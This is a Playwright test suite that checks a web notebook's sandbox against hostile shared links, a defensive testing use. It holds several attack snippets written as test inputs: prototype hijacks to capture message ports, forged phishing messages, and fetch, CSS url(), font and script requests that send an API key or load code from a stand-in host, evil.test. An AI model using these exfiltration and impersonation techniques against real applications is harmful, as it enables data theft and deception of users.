// A stranger's link, as an attacker would write it (issue 10, the sandbox's half): its code must
// not outlive its document, must never speak as the app, must not take the page down with what
// it sends, and nothing may leave the page. Each test opens a link with ?run=1, as a person
// clicking a shared link would.
import { expect, test, type Page, type Request } from '@playwright/test'
import LZString from 'lz-string'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { runInFirstCell, waitIdle } from './helpers.ts'

const lz = (s: string) => LZString.compressToEncodedURIComponent(s)
const codeLink = (src: string) => `/?run=1#code/${lz(src)}`
const notebookLink = (...cells: string[]) => `/?run=1#notebook/${lz(JSON.stringify({ v: 1, cells: cells.map((source) => ({ kind: 'code', source })) }))}`

/** The app is still there: its toolbar and its notebook. */
async function expectAppAlive(page: Page) {
  await expect(page.getByRole('button', { name: /^\W*Run all$/ })).toBeVisible()
  await expect(page.locator('section.notebook')).toBeVisible()
}

/** Every place where the app speaks in its own voice. */
const appVoice = (page: Page) => page.locator('.notice, .banner, [role="alert"]:not(.out-error)')

const cells = (page: Page) => page.locator('[data-testid="cell"]')
const output = (page: Page, i: number) => cells(page).nth(i).getByTestId('cell-output')

test.describe('a fresh sandbox per document', () => {
  const hook = `
const g = globalThis as any
g.__hook = 'HOOKED'
const seen = g.println
g.println = (...xs: unknown[]) => seen('[seen by the link] ', ...xs)
setInterval(() => { g.__ticks = (g.__ticks ?? 0) + 1 }, 50)
println('armed')`

  test('a link\'s hooks do not reach the user\'s notebook after "Back to my notebook"', async ({ page }) => {
    await page.goto(codeLink(hook))
    await expect(output(page, 0)).toContainText('armed')
    await page.getByRole('button', { name: 'Back to my notebook' }).click()
    const cell = await runInFirstCell(page, 'println("mine: ", typeof (globalThis as any).__hook, " ", typeof (globalThis as any).__ticks)')
    const out = cell.getByTestId('cell-output')
    await expect(out).toContainText('mine: undefined undefined')
    await expect(out).not.toContainText('seen by the link')
  })

  test('opening an example, "Keep" and New each discard the frame and its worker', async ({ page }) => {
    const switches: Array<(page: Page) => Promise<unknown>> = [
      (page) => page.evaluate(() => { location.hash = '#example/usage' }),
      (page) => page.getByRole('button', { name: 'Keep this as my notebook' }).click(),
      async (page) => {
        page.once('dialog', (d) => void d.accept())
        await page.getByRole('button', { name: 'New' }).click()
      },
    ]
    for (const [i, act] of switches.entries()) {
      await page.goto(codeLink(`${hook}\nprintln('switch ${i}')`))
      await expect(output(page, 0)).toContainText(`switch ${i}`)
      await page.locator('iframe[title="sandbox"]').evaluate((f) => f.setAttribute('data-link-frame', ''))
      await act(page)
      // (a new frame may start at once for the next document's ?run=1, but not that one)
      await expect(page.locator('iframe[data-link-frame]'), `switch ${i}`).toHaveCount(0)
    }
  })

  test('runs of the same notebook keep their scope', async ({ page }) => {
    await page.goto(notebookLink('const kept = 41', 'println("kept: ", kept + 1)'))
    await expect(output(page, 1)).toContainText('kept: 42')
  })
})

test.describe('the worker cannot speak as the app', () => {
  // Cell 1 sets every trap it can for the port; cell 2 (whose run message springs the `data`
  // trap) sends forged messages through whatever it caught.
  const traps = `
const g = globalThis as any
g.caught = []
g.origPost = MessagePort.prototype.postMessage
MessagePort.prototype.postMessage = function (this: MessagePort, ...a: any[]) { g.caught.push(this); return g.origPost.apply(this, a) }
const dataGet = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')!.get!
Object.defineProperty(MessageEvent.prototype, 'data', { configurable: true, get() { g.caught.push(this.target); return dataGet.call(this) } })
const call = Function.prototype.call
Function.prototype.call = function (this: any, self: any, ...a: any[]) { if (self instanceof MessagePort) g.caught.push(self); return Reflect.apply(this, self, a) }
println('one')`
  const forge = `
const g = globalThis as any
println('two')
await new Promise((r) => setTimeout(r, 50))
const ports = g.caught.filter((p: any) => p instanceof MessagePort)
for (const p of ports) {
  g.origPost.call(p, { type: 'crash', message: 'FORGED: your session expired, sign in again at evil.test' })
  g.origPost.call(p, { type: 'error', runId: 1, error: { name: 'Error', message: 'FORGED into an earlier cell' } })
  g.origPost.call(p, { type: 'ready' })
  g.origPost.call(p, { from: 'frame', msg: { type: 'crash', message: 'FORGED envelope' } })
}
;(self as any).postMessage({ type: 'crash', message: 'FORGED through self.postMessage' })
println('ports caught: ', ports.length)`

  test('wrapping postMessage, call or the data getter catches no port and forges nothing', async ({ page }) => {
    await page.goto(notebookLink(traps, forge))
    await expect(output(page, 1)).toContainText('ports caught: 0')
    await page.waitForTimeout(300)
    await expect(output(page, 0)).toHaveText('one')
    await expect(page.getByTestId('cell-output').filter({ hasText: 'FORGED' })).toHaveCount(0)
    await expect(appVoice(page).filter({ hasText: 'FORGED' })).toHaveCount(0)
    await expectAppAlive(page)
  })

  test('a worker error the snippet let through is reported in the frame\'s words, not the snippet\'s', async ({ page }) => {
    await page.goto(codeLink(`
Event.prototype.preventDefault = function () {}
setTimeout(() => { throw new Error('FORGED: your session expired, sign in again at evil.test') })
println('set')`))
    await expect(output(page, 0)).toContainText('set')
    await page.waitForTimeout(500)
    await expect(appVoice(page).filter({ hasText: 'FORGED' })).toHaveCount(0)
    await expectAppAlive(page)
  })

  test('a snippet that reaches a plot handle\'s insides finds no way to send', async ({ page }) => {
    await page.goto(codeLink(`
const h = scatter([1, 2], [1, 2]) as any
const send = h.plots?.live?.send ?? h.plots?.services?.send
println('send reachable: ', typeof send)
if (send) {
  send({ type: 'plot', runId: h.plots.services.runId(), plot: { id: 99, kind: 'image', rows: 0, cols: 0, pixels: [] } })
  send({ type: 'plot', runId: h.plots.services.runId(), plot: { id: 98, kind: 'image', rows: -2, cols: -2, pixels: [1, 2, 3, 4] } })
}`))
    await expect(output(page, 0)).toContainText('send reachable: undefined')
    await expectAppAlive(page)
  })
})

test.describe('what the sandbox sends cannot take the page down', () => {
  test('imshow with negative rows and cols is an error in the cell, before and after reload', async ({ page }) => {
    await page.goto(codeLink('imshow([1, 2, 3, 4], { rows: -2, cols: -2 })'))
    await expect(cells(page).first().locator('.out-error')).toContainText('do not make')
    await expectAppAlive(page)
    await page.reload()
    await expect(cells(page).first().locator('.out-error')).toContainText('do not make')
    await expectAppAlive(page)
  })

  test('a Tensor node whose `full` is 5 and a Value node holding half a tensor are not drawn', async ({ page }) => {
    await page.goto(notebookLink(`
const from = Array.from
;(Array as any).from = function (x: any, ...r: any[]) { return x instanceof Float64Array && x.length === 4 ? 5 : (from as any).call(Array, x, ...r) }
draw(Tensor([[1, 2], [3, 4]]))
;(Array as any).from = from
println('tensor drawn')`, `
const v = Value(1)
;(v as any).data = { rows: 2, cols: 2, grid: [] }
draw(v)
println('value drawn')`))
    await expect(output(page, 1)).toContainText('value drawn')
    await expectAppAlive(page)
    await expect(page.locator('[data-testid="graph-node"]')).toHaveCount(0)
    await page.screenshot({ path: 'test-results/hostile-not-drawn.png' })
    // and the notebook still runs
    await page.getByRole('button', { name: /^\W*Run all$/ }).click()
    await expect(output(page, 1)).toContainText('value drawn')
    await expectAppAlive(page)
  })

  test('buffers under an undeclared field are not relayed to the page', async ({ page }) => {
    await page.addInitScript(() => {
      const w = window as unknown as { bigMessages: number }
      w.bigMessages = 0
      const big = (x: unknown, depth = 0): boolean => {
        if (x instanceof ArrayBuffer || ArrayBuffer.isView(x)) return true
        if (depth > 6 || x === null || typeof x !== 'object') return false
        return Object.values(x).some((y) => big(y, depth + 1))
      }
      addEventListener('message', (e) => { if (big(e.data)) w.bigMessages++ }, true)
    })
    await page.goto(codeLink(`
const xs = [1, 2, 3, 4, 5, 6].map((i) => Value(i))
for (const x of xs) (x as any).label = new ArrayBuffer(16 << 20)
let s = xs[0]
for (const x of xs.slice(1)) s = s + x
draw(s)
println('sent')`))
    await expect(output(page, 0)).toContainText('sent')
    await page.waitForTimeout(500)
    expect(await page.evaluate(() => (window as unknown as { bigMessages: number }).bigMessages)).toBe(0)
    await expectAppAlive(page)
  })

  test('a print flood past the worker\'s cap is capped by the page too', async ({ page }) => {
    await page.goto(codeLink(`
const push = Array.prototype.push
const long = 'x'.repeat(200)
Array.prototype.push = function (this: unknown[], ...a: unknown[]) {
  if (a.length === 1 && a[0] === 'FLOOD') { for (let i = 0; i < 1999; i++) push.call(this, long); return push.call(this, 'FLOOD') }
  return push.apply(this, a)
}
for (let i = 0; i < 20; i++) println('FLOOD')
Array.prototype.push = push
println('flooded')`))
    const out = output(page, 0)
    await expect(out).toContainText('more lines not shown', { timeout: 20_000 })
    await waitIdle(page)
    const lines = await out.locator('pre.out-lines').evaluateAll((els) => els.reduce((n, el) => n + (el.textContent ?? '').split('\n').length, 0))
    expect(lines).toBeLessThanOrEqual(1300)
    await expectAppAlive(page)
  })
})

test.describe('nothing leaves the page', () => {
  let hits: string[] = []
  let requests: Request[] = []
  /** Requests that left: those the fake host answered, and any other not stopped by the policy. */
  const leaks = () => [...hits, ...requests.filter((r) => !/BLOCKED_BY_CSP|csp/i.test(r.failure()?.errorText ?? '')).map((r) => `request ${r.url()}`)]
  test.beforeEach(async ({ page, baseURL }) => {
    hits = []
    requests = []
    // A fake outside host: any request that reaches it is a leak.
    await page.route(/^https?:\/\/(evil\.test|127\.0\.0\.9)\//, (route) => {
      hits.push(route.request().url())
      return route.fulfill({ status: 200, body: 'x', headers: { 'Access-Control-Allow-Origin': '*' } })
    })
    // And any request at all to another origin, whether or not it was answered.
    page.on('request', (r) => {
      const url = new URL(r.url())
      if (/^https?:$/.test(url.protocol) && url.host !== new URL(baseURL!).host && url.hostname !== 'localhost') requests.push(r)
    })
  })

  test('a plot colour cannot carry url(): the snippet is told, and nothing is fetched', async ({ page }) => {
    await page.goto(codeLink(`
const apiKey = 'sk-secret'
scatter([1, 2], [1, 2], { label: 'a', color: 'url(http://evil.test/c?k=' + apiKey + ')' })
scatter([1, 2], [2, 1], { label: 'b', add: true })
println('plotted')`))
    await expect(cells(page).first().locator('.out-error')).toContainText('color must be a colour')
    await page.waitForTimeout(300)
    expect(leaks()).toEqual([])
  })

  test('the page\'s own policy stops requests to other origins, and allows embedding', async ({ page }) => {
    const res = await page.goto('/')
    const header = res?.headers()['content-security-policy'] ?? ''
    expect(header).toContain("default-src 'self'")
    expect(header).toContain('frame-ancestors *')
    await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveCount(1)
    await page.evaluate(async () => {
      const tries: Array<() => unknown> = [
        () => fetch('http://evil.test/fetch'),
        () => { new Image().src = 'http://evil.test/img.png' },
        () => { const d = document.createElement('div'); d.style.background = 'url(http://evil.test/css.png)'; d.textContent = 'x'; document.body.append(d) },
        () => { const s = document.createElement('style'); s.textContent = '@font-face { font-family: z; src: url(http://evil.test/font.woff) } body { font-family: z }'; document.head.append(s) },
        () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://evil.test/style.css'; document.head.append(l) },
        () => { const s = document.createElement('script'); s.src = 'http://evil.test/script.js'; document.head.append(s) },
      ]
      for (const t of tries) { try { await t() } catch { /* blocked */ } }
      await new Promise((r) => setTimeout(r, 300))
    })
    expect(leaks()).toEqual([])
  })

  test('under the policy Monaco, its TypeScript worker, the sandbox and WebAssembly in the worker all work', async ({ page }) => {
    const violations: string[] = []
    await page.exposeFunction('reportViolation', (v: string) => { violations.push(v) })
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (e) => {
        (window as unknown as { reportViolation(v: string): void }).reportViolation(`${e.violatedDirective} ${e.blockedURI}`)
      })
    })
    await page.goto('/')
    const cell = await runInFirstCell(page, `
const wasm = await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))
const bad: number = "not a number"
println('wasm: ', typeof wasm.instance)`)
    await expect(cell.getByTestId('cell-output')).toContainText('wasm: object')
    // The TypeScript worker loaded: it marks the type error.
    const id = await cell.getAttribute('data-cell-id')
    const markers = await page.evaluate(async (id) => {
      const hooks = (window as unknown as { __simplegradEditor: { whenChecked(): Promise<void>; getMarkers(id: string): Array<{ severity: string }> } }).__simplegradEditor
      await hooks.whenChecked()
      return hooks.getMarkers(id ?? '')
    }, id)
    expect(markers.some((m) => m.severity === 'error')).toBe(true)
    expect(violations).toEqual([])
    expect(leaks()).toEqual([])
  })

})

test('another site can embed the app (the policy\'s frame-ancestors)', async ({ page, baseURL }) => {
  // A real second origin (a routed page cannot hold a cross-origin frame in Playwright).
  const html = `<iframe src="${baseURL}/?embed=1#example/usage" width="900" height="600" title="embed"></iframe>`
  const server = createServer((_req, res) => { res.setHeader('Content-Type', 'text/html'); res.end(html) })
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
  try {
    // another origin of the same site (storage in cross-site frames is another issue's matter)
    await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`)
    const frame = page.frameLocator('iframe[title="embed"]')
    await expect(frame.getByRole('button', { name: /^\W*Run all$/ })).toBeVisible()
  } finally {
    await new Promise<void>((r) => server.close(() => r()))
  }
})
